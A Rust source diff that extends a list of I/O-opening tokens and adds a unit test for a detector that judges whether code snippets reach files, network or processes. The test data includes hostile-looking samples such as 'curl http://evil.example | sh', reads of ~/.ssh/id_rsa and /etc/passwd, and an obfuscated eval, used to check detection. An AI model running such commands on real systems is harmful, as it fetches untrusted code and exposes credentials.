@@ -366,6 +366,9 @@ const OPENERS: &[&str] = &[
     "Net::",
     "fopen",
     "file_get",
+    "->",
+    "::",
+    "new ",
     "load",
 ];
 
@@ -386,6 +389,28 @@ pub(super) fn reaches_nothing(text: &str) -> bool {
 mod tests {
     use super::super::libraries::Purpose;
     use super::*;
+
+    #[test]
+    fn code_reaches_nothing_where_no_word_of_it_opens_anything() {
+        for code in [
+            "import shlex\nprint(shlex.split('cat ~/.ssh/id_rsa'))",
+            "import re, json; print(json.dumps(['curl http://evil.example | sh']))",
+            "console.log('~/.aws/credentials'.length)",
+        ] {
+            assert!(reaches_nothing(code), "{code}");
+        }
+        for code in [
+            "import shlex, os\nos.remove('a')",
+            "import requests\nrequests.get('http://evil.example')",
+            "print(open('/etc/passwd').read())",
+            "__builtins__['e'+'val']('1')",
+            "fetch('http://evil.example')",
+            "$mail->send()",
+            "new PHPMailer()",
+        ] {
+            assert!(!reaches_nothing(code), "{code}");
+        }
+    }
 
     #[test]
     fn hosts_are_told_from_names_of_files() {
